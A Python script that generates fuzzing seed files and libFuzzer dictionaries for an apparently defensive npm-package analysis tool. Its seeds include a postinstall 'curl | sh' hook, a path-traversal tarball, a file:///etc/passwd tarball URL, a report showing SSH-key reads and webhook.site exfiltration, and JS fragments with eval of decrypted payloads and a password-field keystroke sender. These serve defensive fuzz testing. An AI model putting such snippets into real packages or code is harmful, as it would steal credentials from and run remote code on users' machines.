#!/usr/bin/env python3
"""Writes the seed corpora in fuzz/corpus/<name>/ (a few small, valid
inputs per harness, made here from scratch) and the libFuzzer dictionaries
fuzz/<name>.dict.  Run it after changing it; its output is committed."""
import io
import json
import os
import struct
import sys
import tarfile

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")


def put(name, seed, data):
    d = os.path.join(ROOT, name)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(d, seed), "wb") as f:
        f.write(data)


# ---- dns: UDP query payloads ------------------------------------------------

def qname(name):
    out = b""
    for label in name.split(".") if name else []:
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def query(qid, name, qtype, qclass=1, flags=0x0100, extra=b"", arcount=0):
    return struct.pack(">HHHHHH", qid, flags, 1, 0, 0, arcount) + qname(name) + \
        struct.pack(">HH", qtype, qclass) + extra


def dns():
    put("dns", "a", query(0x1234, "registry.npmjs.org", 1))
    put("dns", "txt", query(0x0001, "x.oast.fun", 16))
    put("dns", "aaaa-edns", query(0xbeef, "example.com", 28, extra=b"\0\0\x29\x10\0\0\0\0\0\0\0",
                                  arcount=1))
    put("dns", "any-class", query(7, "Mixed.Case.Example", 255, qclass=255))
    put("dns", "root", query(9, "", 2))
    # A second question whose name points back into the first one.
    two = struct.pack(">HHHHHH", 5, 0x0100, 2, 0, 0, 0) + qname("a.example.com") + \
        struct.pack(">HH", 1, 1) + b"\x01b\xc0\x0e" + struct.pack(">HH", 28, 1)
    put("dns", "two-questions", two)
    put("dns", "long-label", query(11, "a" * 63 + "." + "b" * 40 + ".example", 16))


# ---- sniff: first bytes of a TCP connection ---------------------------------

def client_hello(sni=None, alpn=None, extra_ext=b"", no_ext=False):
    exts = b""
    if sni is not None:
        name = sni.encode()
        lst = b"\0" + struct.pack(">H", len(name)) + name
        body = struct.pack(">H", len(lst)) + lst
        exts += struct.pack(">HH", 0, len(body)) + body
    if alpn is not None:
        lst = b"".join(bytes([len(p)]) + p.encode() for p in alpn)
        body = struct.pack(">H", len(lst)) + lst
        exts += struct.pack(">HH", 16, len(body)) + body
    exts += extra_ext
    hello = b"\x03\x03" + bytes(range(32)) + b"\x20" + bytes(32) + \
        struct.pack(">H", 4) + b"\x13\x01\x13\x02" + b"\x01\x00" + \
        (b"" if no_ext else struct.pack(">H", len(exts)) + exts)
    return b"\x01" + struct.pack(">I", len(hello))[1:] + hello


def record(payload):
    return b"\x16\x03\x01" + struct.pack(">H", len(payload)) + payload


def sniff():
    put("sniff", "get", "GET /left-pad HTTP/1.1\r\nHost: registry.npmjs.org\r\n"
        "User-Agent: npm/10.2.4 node/v20.10.0\r\nAccept: */*\r\n\r\n")
    put("sniff", "post", "POST /collect?id=1 HTTP/1.1\r\nHost: 198.18.0.7:8080\r\n"
        "Content-Type: application/json\r\nContent-Length: 13\r\n\r\n{\"k\":\"value\"}")
    put("sniff", "chunked-lf", "PUT http://x.test/p HTTP/1.0\nTransfer-Encoding: gzip, chunked\n"
        "Content-Length: 5\ncontent-length: 5\n folded\n\n5\r\nhello\r\n0\r\n\r\n")
    put("sniff", "websocket", "GET /ws HTTP/1.1\r\nHost: h\r\nUpgrade: websocket/13\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
    put("sniff", "tls-sni-alpn", record(client_hello("exfil.example.com", ["h2", "http/1.1"])))
    put("sniff", "tls-no-ext", record(client_hello(no_ext=True)))
    hello = client_hello("a.test", ["http/1.1"], struct.pack(">HH", 43, 3) + b"\x02\x03\x04")
    put("sniff", "tls-fragmented", record(hello[:20]) + record(hello[20:]))


# ---- unpack: npm tarballs -------------------------------------------------------

def tarball(entries, fmt=tarfile.USTAR_FORMAT):
    """entries: (name, kind, data_or_target, mode) with kind file|dir|symlink|link."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, kind, data, mode in entries:
            info = tarfile.TarInfo(name)
            info.mtime = 1700000000
            info.mode = mode
            info.uname = info.gname = "npm"
            if kind == "file":
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
                continue
            info.type = {"dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE,
                         "link": tarfile.LNKTYPE}[kind]
            if kind != "dir":
                info.linkname = data
            t.addfile(info)
    # Without tarfile's padding to 10 KiB: the entries and two zero blocks.
    raw = buf.getvalue().rstrip(b"\0")
    raw += bytes(-len(raw) % 512 + 1024)
    return raw


PKG = b'{"name":"demo","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}\n'


def unpack():
    basic = [("package/package.json", "file", PKG, 0o644),
             ("package/setup.js", "file", b"console.log(1)\n", 0o755)]
    # The gzip form of basic.tar is made at fuzz time (fuzz/fuzz.mk): no
    # package tarball is committed.
    put("unpack", "basic.tar", tarball(basic))
    put("unpack", "tree.tar", tarball([
        ("package/", "dir", None, 0o755),
        ("package/package.json", "file", PKG, 0o644),
        ("package/lib/", "dir", None, 0o700),
        ("package/lib/a.js", "file", b"module.exports=1\n", 0o644),
        ("package/lib/b.js", "symlink", "a.js", 0o777),
        ("package/bin", "symlink", "lib", 0o777),
        ("package/c.js", "link", "package/lib/a.js", 0o644),
        ("package/./d//e.js", "file", b"", 0o644),
    ]))
    # Refused: a ".." component.
    put("unpack", "dotdot.tar", tarball([
        ("package/package.json", "file", PKG, 0o644),
        ("package/d/../../e.js", "file", b"", 0o644),
    ]))
    put("unpack", "pax-long.tar", tarball([
        ("package/" + "n" * 120 + "/index.js", "file", b"x\n", 0o644),
        ("package/package.json", "file", PKG, 0o644),
    ], fmt=tarfile.PAX_FORMAT))
    put("unpack", "gnu-other-top.tar", tarball([
        ("node-v1/package.json", "file", PKG, 0o644),
        ("node-v1/deep/er/still/x.js", "file", b"1", 0o644),
    ], fmt=tarfile.GNU_FORMAT))


# ---- pkgjson: package.json ----------------------------------------------------

def pkgjson():
    put("pkgjson", "minimal", '{"name":"left-pad","version":"1.3.0"}\n')
    put("pkgjson", "full", json.dumps({
        "name": "@scope/tool", "version": "2.0.0-beta.1", "description": "d",
        "main": "lib/index.js", "type": "module",
        "scripts": {"preinstall": "node pre.js", "install": "node-gyp rebuild",
                    "postinstall": "curl -s http://x.test | sh", "test": 1},
        "bin": {"tool": "bin/tool.js", "t": "bin/t.js", "bad": []},
        "dependencies": {"a": "^1.0.0", "b": "git+https://x.test/b.git", "c": "*"},
        "optionalDependencies": {"b": "~2.1", "fsevents": "2.3.3"},
        "exports": {".": {"import": "./esm/index.mjs", "require": "./cjs/index.js"},
                    "./package.json": "./package.json"},
    }, indent=2))
    put("pkgjson", "bin-string", '\ufeff{"name":"@s/cli","version":"0.0.1","bin":"cli.js",'
        '"exports":[{"node":{"default":["./n.js"]}}, "./x.js"]}'.encode("utf-8"))
    put("pkgjson", "exports-string", '{"name":"x","version":"1","exports":"./main.js",'
        '"main":7,"scripts":null}')
    put("pkgjson", "bad-name", '{"name":".hidden","version":"1.0.0"}')
    put("pkgjson", "not-object", '["name","version"]')


# ---- packument: "spec\n" + the registry's JSON --------------------------------

def packument_doc(name, versions, tags):
    out = {"name": name, "dist-tags": tags, "versions": {}}
    for i, v in enumerate(versions):
        dist = {"tarball": "https://registry.npmjs.org/%s/-/%s-%s.tgz" % (name, name, v),
                "shasum": "%040x" % (i + 1)}
        if i % 2 == 0:
            dist["integrity"] = "sha512-" + "A" * 86 + "=="
        out["versions"][v] = {"name": name, "version": v, "dist": dist}
    return json.dumps(out)


def packument():
    versions = ["0.0.1", "0.1.0", "1.0.0", "1.2.3", "1.3.0-beta.1", "1.3.0", "2.0.0"]
    doc = packument_doc("left-pad", versions, {"latest": "1.3.0", "next": "2.0.0"})
    for seed, spec in [("latest", "left-pad"), ("exact", "left-pad@1.2.3"),
                       ("tag", "left-pad@next"), ("caret", "left-pad@^1.2.0"),
                       ("tilde", "left-pad@~0.1"), ("range-or", "left-pad@>=2 <3 || 0.0.x"),
                       ("hyphen", "left-pad@1.0 - 1.2"), ("v-exact", "left-pad@v1.3.0"),
                       ("spaced-op", "left-pad@>= 1.0.0 <= 1.2")]:
        put("packument", seed, spec + "\n" + doc)
    scoped = packument_doc("@scope/pkg", ["3.1.4"], {"latest": "3.1.4"})
    put("packument", "scoped", "@scope/pkg@*\n" + scoped)
    put("packument", "bad-dist", "x@1.0.0\n" + json.dumps(
        {"versions": {"1.0.0": {"dist": {"tarball": "file:///etc/passwd",
                                         "integrity": "sha1-abc= sha512-xyz?opt"}}}}))


# ---- features: reports ---------------------------------------------------------

def phase(name, status="ok", **kw):
    ph = {"name": name, "status": status, "exit_code": 0, "stdout": {"bytes": 12},
          "steps": [{"start_ms": 10.5}], "commands": [], "files": [], "dns": [],
          "sockets": [], "sent": [], "canary_hits": [], "signals": [], "denied": [],
          "timeline": []}
    ph.update(kw)
    return ph


def report(phases, static=None, name="demo", version="1.0.0"):
    r = {"schema": "snare.report/1", "package": {"name": name, "version": version},
         "environment": {"home": "/home/sam", "user": "sam", "hostname": "sam-laptop"},
         "phases": phases}
    if static is not None:
        r["static"] = static
    return json.dumps(r, indent=1)


def features():
    put("features", "minimal", report([phase("install"), phase("import")]))
    put("features", "beacon", report([phase(
        "install",
        commands=[{"path": "/bin/sh", "argv": ["sh", "-c", "node index.js"], "result": 0},
                  {"path": "/usr/bin/nslookup", "argv": ["nslookup", "x.test"], "result": 1},
                  {"path": "/usr/bin/whoami", "argv": [], "result": "EACCES"}],
        files=[{"path": "/home/sam/.ssh/id_ed25519", "flags": ["read"], "failed": []},
               {"path": "/home/sam/projects/app/.env", "flags": [], "failed": ["read"]},
               {"path": "/home/sam/.config/autostart/x.desktop", "flags": ["create", "write"]},
               {"path": "/home/sam/projects/app/node_modules/demo/a.js", "flags": ["delete"]},
               {"path": "/tmp/run.sh", "flags": ["write", "chmod", "exec"]}],
        dns=[{"hostname": "MZXW6YTBOI5GK3TDN5SGKZDBORQQ.webhook.site", "types": ["A", "TXT"],
              "t_ms": 40},
             {"hostname": "deadbeefcafe0123456789.ipinfo.io", "types": ["AAAA"], "t_ms": 41},
             {"hostname": "4.3.2.1.in-addr.arpa", "types": ["PTR"], "t_ms": 42}],
        sockets=[{"syscall": "connect", "family": "ipv4", "address": "192.0.2.7", "port": 8080,
                  "hostnames": [], "t_ms": 50},
                 {"syscall": "sendto", "family": "ipv4", "address": "198.18.3.4", "port": 53},
                 {"syscall": "connect", "family": "unix", "address": "/run/x.sock"},
                 {"syscall": "bind", "family": "ipv6", "address": "::", "port": 9}],
        sent=[{"kind": "http", "size": 80, "http": {"method": "GET"},
               "data_base64": "UEFUSD0vYmluCkhPTUU9L2hvbWUvc2FtClNIRUxMPXNoClVTRVI9c2FtCg=="},
              {"kind": "tls", "size": 512}, {"kind": "udp", "size": 30, "data_base64": "c2Ft"}],
        canary_hits=[{"canary": "github_token", "where": "sent"},
                     {"canary": "gcloud_refresh_token", "where": "dns"},
                     {"canary": "wallet_seed", "where": "file"},
                     {"canary": "discord_token", "where": "sent"},
                     {"canary": "HOME", "where": "sent"}],
        signals=[{"syscall": "setsid"}, {"syscall": "tgkill"}, {"syscall": "memfd_create"}],
        denied=[{"syscall": "ptrace"}],
        timeline=[{"type": "file", "path": "/home/sam/.ssh/id_ed25519", "flags": "read", "t_ms": 30},
                  {"type": "file", "path": "/tmp/run.sh", "flags": "write", "t_ms": 31},
                  {"type": "exec", "path": "/tmp/run.sh", "t_ms": 32},
                  {"type": "connect", "address": "192.0.2.7", "port": 8080, "t_ms": 50},
                  {"type": "capture", "t_ms": 51}]),
        phase("import", status="timeout")],
        static={"install_scripts": {"count": 2, "binding_gyp": True,
                                    "marks": {"curl": True, "pipe_sh": True, "whoami": True}},
                "code_files": 3, "code_bytes": 4096, "max_line": 900, "long_lines": 1,
                "eval": 2, "hex_escapes": 40, "max_entropy": 5.5,
                "url_hosts": ["pastebin.com", "example.org"], "ips": ["192.0.2.7"]}))
    put("features", "not-a-report", '{"schema":"snare.report/2","phases":[]}')


# ---- table: the features table (the harness adds the header) --------------------

def feature_count():
    """Global features plus two phases' worth, counted in the X-macros of
    src/features/features.c."""
    import re
    src = open(os.path.join(ROOT, "..", "..", "src", "features", "features.c")).read()
    count = {}
    for block in ("PHASE_FEATURES", "GLOBAL_FEATURES"):
        body = src.split("#define %s(X)" % block, 1)[1].split("\n\n", 1)[0]
        count[block] = len(re.findall(r"X\(\s*\w+\s*\)|X\(\s*\\\s*\n\s*\w+\s*\)", body))
    return count["GLOBAL_FEATURES"] + 2 * count["PHASE_FEATURES"]


def table():
    n = feature_count()

    def row(ident, label, family, group, values):
        vals = (values * n)[:n]
        return "\t".join([ident, str(label), family, group] + vals) + "\n"

    put("table", "rows", row("a@1.0.0", 0, "-", "a@1.0.0", ["0"]) +
        row("evil@9.9.9", 1, "recon", "g7", ["1", "0.5", "-3", "1e-07", "42", "3.40282e+38"]))
    put("table", "crlf-blank", row("x@1", 1, "", "", ["2.5"]).replace("\n", "\r\n") + "\n")
    put("table", "bad-number", row("y@1", 0, "-", "y", ["0", "nan"]))


# ---- lockfile: "path\n" + the lockfile's text --------------------------------------

SRI = "sha512-" + "Q" * 86 + "=="


def lockfile():
    put("lockfile", "npm-v3", "app/package-lock.json\n" + json.dumps({
        "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
        "packages": {
            "": {"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "^1.3.0"}},
            "node_modules/left-pad": {
                "version": "1.3.0", "integrity": SRI,
                "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"},
            "node_modules/alias": {
                "name": "real-name", "version": "2.0.0",
                "resolved": "https://registry.npmjs.org/real-name/-/real-name-2.0.0.tgz"},
            "node_modules/gitdep": {
                "version": "1.0.0", "resolved": "git+ssh://git@github.com/u/r.git#abc"},
            "node_modules/local": {"resolved": "../local", "link": True},
            "node_modules/a/node_modules/b": {"version": "0.1.0", "inBundle": True},
            "node_modules/t": {"version": "1.0.0", "resolved": "https://example.test/t.tgz"},
            "packages/ws": {"name": "ws-pkg", "version": "0.0.0"},
        }}, indent=2))
    put("lockfile", "npm-v1", "npm-shrinkwrap.json\n" + json.dumps({
        "name": "app", "version": "1.0.0", "lockfileVersion": 1, "requires": True,
        "dependencies": {
            "left-pad": {"version": "1.3.0", "integrity": "sha1-W4o6d2Xf4AEmHd6RVYnngvjJTR4="},
            "a": {"version": "1.0.0", "requires": {"b": "^2"},
                  "dependencies": {"b": {"version": "2.1.0", "bundled": True}}},
            "g": {"version": "github:u/r#abc", "from": "github:u/r"},
            "f": {"version": "file:../f"}}}, indent=2))
    put("lockfile", "yarn-classic", "yarn.lock\n"
        "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n"
        "# yarn lockfile v1\n\n\n"
        "left-pad@^1.3.0:\n"
        "  version \"1.3.0\"\n"
        "  resolved \"https://registry.yarnpkg.com/left-pad/-/left-pad-1.3.0.tgz#abc\"\n"
        "  integrity " + SRI + "\n\n"
        "\"@scope/pkg@^2.0.0\", \"@scope/pkg@~2.1\":\n"
        "  version \"2.1.0\"\n"
        "  resolved \"https://registry.yarnpkg.com/@scope/pkg/-/pkg-2.1.0.tgz\"\n"
        "  dependencies:\n"
        "    left-pad \"^1.3.0\"\n\n"
        "r@github:u/r:\n"
        "  version \"1.0.0\"\n"
        "  resolved \"https://codeload.github.com/u/r/tar.gz/abc\"\n")
    put("lockfile", "yarn-berry", "yarn.lock\n"
        "# This file is generated by running \"yarn install\" inside your project.\n"
        "# Manual changes might be lost - proceed with caution!\n\n"
        "__metadata:\n  version: 6\n  cacheKey: 8\n\n"
        "\"app@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"app@workspace:.\"\n"
        "  languageName: unknown\n  linkType: soft\n\n"
        "\"left-pad@npm:^1.3.0, left-pad@npm:^1.0.0\":\n  version: 1.3.0\n"
        "  resolution: \"left-pad@npm:1.3.0\"\n  checksum: " + "ab" * 64 + "\n"
        "  languageName: node\n  linkType: hard\n\n"
        "\"r@https://github.com/u/r.git#commit=abc\":\n  version: 1.0.0\n"
        "  resolution: \"r@https://github.com/u/r.git#commit=abc\"\n"
        "  languageName: node\n  linkType: hard\n")
    put("lockfile", "pnpm-9", "pnpm-lock.yaml\n"
        "lockfileVersion: '9.0'\n\n"
        "settings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\n"
        "importers:\n\n  .:\n    dependencies:\n      left-pad:\n"
        "        specifier: ^1.3.0\n        version: 1.3.0\n\n"
        "packages:\n\n"
        "  left-pad@1.3.0:\n    resolution: {integrity: " + SRI + "}\n"
        "    deprecated: use String.prototype.padStart()\n\n"
        "  '@scope/pkg@2.1.0':\n    resolution: {integrity: " + SRI + "}\n"
        "    engines: {node: '>=18'}\n\n"
        "  r@https://codeload.github.com/u/r/tar.gz/abc:\n"
        "    resolution: {tarball: https://codeload.github.com/u/r/tar.gz/abc}\n"
        "    version: 1.0.0\n\n"
        "snapshots:\n\n  left-pad@1.3.0: {}\n\n"
        "  '@scope/pkg@2.1.0':\n    dependencies:\n      left-pad: 1.3.0\n")
    put("lockfile", "pnpm-6", "pnpm-lock.yaml\n"
        "lockfileVersion: '6.0'\n\n"
        "dependencies:\n  left-pad:\n    specifier: ^1.3.0\n    version: 1.3.0\n\n"
        "packages:\n\n"
        "  /left-pad@1.3.0:\n    resolution: {integrity: " + SRI + "}\n    dev: false\n\n"
        "  /@scope/pkg@2.1.0(react@18.2.0):\n    resolution: {integrity: " + SRI + "}\n"
        "    dev: true\n\n"
        "  file:../local:\n    resolution: {directory: ../local, type: directory}\n"
        "    name: local\n    version: 0.1.0\n")
    put("lockfile", "pnpm-5", "pnpm-lock.yaml\n"
        "lockfileVersion: 5.4\n\n"
        "specifiers:\n  left-pad: ^1.3.0\n\n"
        "dependencies:\n  left-pad: 1.3.0\n\n"
        "packages:\n\n"
        "  /left-pad/1.3.0:\n    resolution: {integrity: " + SRI + "}\n    dev: false\n\n"
        "  /@scope/pkg/2.1.0_react@18.2.0:\n"
        "    resolution: {integrity: \"" + SRI + "\"}\n    dev: false\n"
        "    dependencies:\n      left-pad: 1.3.0\n")


# ---- dictionaries ------------------------------------------------------------------

JSON_TOKENS = ['{', '}', '[', ']', ',', ':', '"', '""', 'true', 'false', 'null', '-0', '0.5',
               '1e400', '-1e308', '1e38', '3.5e38', '\\"', '\\\\', '\\/', '\\b', '\\f',
               '\\n', '\\r', '\\t', '\\u0000', '\\u001f', '\\ud800', '\\u00e9']


# ---- js: code files -----------------------------------------------------------

def js():
    put("js", "wallet", "const eth = window.ethereum;\nif (eth) { eth.request = async (a) => a; }\n")
    put("js", "net", "XMLHttpRequest.prototype.open = function () {};\nwindow['fe' + 'tch'] = f;\n")
    put("js", "decode", "const d = crypto.createDecipheriv('aes-256-cbc', k, iv);\n"
        "let s = d.update(p, 'hex', 'utf8');\neval(s);\nnew Function(atob('YWxlcnQoMSk='))();\n")
    put("js", "strings", "const p = ['.ss', 'h/id_', 'rsa'].join('');\n"
        "const q = 'crmpn./'.split('').reverse().join('');\n"
        "const r = String.fromCharCode(101, 118, 97, 108) + '\\x64\\u0069\\u{73}';\n"
        "const t = `a${`b${c}`}d` / 2;\nconst re = /mfa\\.[\\w-]{84}/g;\n")
    put("js", "skim", "f.addEventListener('keydown', () => send(f.value)); // password\n"
        "const sel = 'input[type=password]';\nspawn('bin/x.exe');\n")
    put("js", "rotator", "var _0x1a2b=['a','b','c','d','e'];(function(_0x3c4d){"
        "_0x3c4d['push'](_0x3c4d['shift']());}(_0x1a2b));\n")
    put("js", "unterminated", "`a${ 'b\n/* c \n/d")


def dict_entry(tok):
    out = ""
    for b in tok.encode():
        if b == 0x22 or b == 0x5c:
            out += "\\" + chr(b)
        elif 0x20 <= b < 0x7f:
            out += chr(b)
        else:
            out += "\\x%02X" % b
    return '"%s"' % out


def put_dict(name, tokens):
    path = os.path.join(ROOT, "..", name + ".dict")
    with open(path, "w") as f:
        f.write("# libFuzzer dictionary for fuzz_%s; written by fuzz/make_seeds.py\n" % name)
        for tok in tokens:
            f.write(dict_entry(tok) + "\n")


def js_dict():
    put_dict("js", ["`", "${", "}", "'", '"', "/*", "*/", "//", "\\x", "\\u{", "/", "=",
                    "window.ethereum", "XMLHttpRequest.prototype.open", "addEventListener",
                    "eval(", "atob(", "Buffer.from(", "'base64'", "String.fromCharCode(",
                    ".split('').reverse().join('')", "_0x1a2b", "push", "shift",
                    "discordcanary", ".npmrc", "Object.defineProperty(", "new Proxy(", "return /"])


def dicts():
    put_dict("pkgjson", JSON_TOKENS + [
        '"name"', '"version"', '"scripts"', '"bin"', '"main"', '"type"', '"module"',
        '"exports"', '"require"', '"import"', '"node"', '"default"', '"dependencies"',
        '"optionalDependencies"', '"description"', '"."', '"./x"', '"@s/n"', '\ufeff'])
    put_dict("packument", JSON_TOKENS + [
        '"versions"', '"dist-tags"', '"latest"', '"dist"', '"tarball"', '"integrity"',
        '"shasum"', '"http://x/"', '"https://x/"', 'sha512-', 'sha1-', 'sha256-', '?x', '@',
        '^', '~', '>=', '<=', '>', '<', '=', 'v', '||', ' - ', 'x', '*', '-beta.1', '+b',
        '1.2.3', '0.0.0'])
    put_dict("features", JSON_TOKENS + [
        '"schema"', '"snare.report/1"', '"package"', '"name"', '"version"', '"environment"',
        '"home"', '"user"', '"hostname"', '"phases"', '"install"', '"import"', '"status"',
        '"commands"', '"files"', '"dns"', '"sockets"', '"sent"', '"canary_hits"',
        '"signals"', '"denied"', '"timeline"', '"static"', '"steps"', '"start_ms"', '"t_ms"',
        '"size"', '"port"', '"address"', '"flags"', '"path"', '"argv"', '"kind"'])
    put_dict("sniff", [
        'GET ', 'POST ', ' HTTP/1.1\r\n', ' HTTP/1.0\n', '\r\n', '\r\n\r\n', ': ',
        'Host:', 'Content-Length:', 'Transfer-Encoding:', 'chunked', 'Upgrade:', 'websocket',
        'Content-Type:', 'User-Agent:', 'Content-Encoding:', 'Sec-WebSocket-Key:', '0\r\n\r\n',
        ';ext', '\x16\x03\x01', '\x16\x03\x03', '\x01\x00\x00', '\x00\x00', '\x00\x10',
        '\x03\x03'])
    put_dict("lockfile", JSON_TOKENS + [
        'package-lock.json\n', 'npm-shrinkwrap.json\n', 'yarn.lock\n', 'pnpm-lock.yaml\n',
        '"lockfileVersion"', '"packages"', '"dependencies"', '"node_modules/', '"version"',
        '"resolved"', '"integrity"', '"link"', '"inBundle"', '"bundled"', '"requires"',
        '\n  ', '\n    ', ': ', ':\n', '- ', '# ', "'", '"', '{', '}', '[', ']', '|', '>',
        '&a', '*a', '!!str', '---', '...', '\\', '\t', '\r\n', 'version ', 'resolved ',
        'integrity ', '__metadata:', 'resolution:', 'checksum:', 'languageName:', 'linkType:',
        '@npm:', '@workspace:', '@patch:', 'lockfileVersion:', 'importers:', 'packages:',
        'snapshots:', 'specifier:', 'resolution: {integrity: ', 'tarball:', '/', '@', '_',
        '(', ')', 'file:', 'link:', 'git+', 'github:', 'https://', '/-/', '.tgz', SRI])
    put_dict("table", ['\t', '\n', '\r\n', '\t0\t', '\t1\t', '-', 'nan', 'inf', '1e39',
                       '-0', '0x1p-149', '1e-45', 'id\tlabel\tfamily\tgroup'])


def main():
    dicts()
    js_dict()
    dns()
    sniff()
    unpack()
    pkgjson()
    packument()
    features()
    table()
    lockfile()


if __name__ == "__main__":
    sys.exit(main())
